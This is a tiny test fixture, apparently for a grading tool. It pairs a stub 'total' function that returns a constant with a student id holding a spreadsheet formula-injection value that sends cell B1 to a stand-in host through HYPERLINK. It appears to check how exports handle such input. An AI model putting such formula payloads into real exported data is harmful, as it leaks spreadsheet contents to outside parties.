"""Has an id that a spreadsheet would run."""
# student: "=HYPERLINK(\"http:example.org?\"&B1,\"x\")"
# expects: total failed
# %% total
def total(xs):
    return 0.25
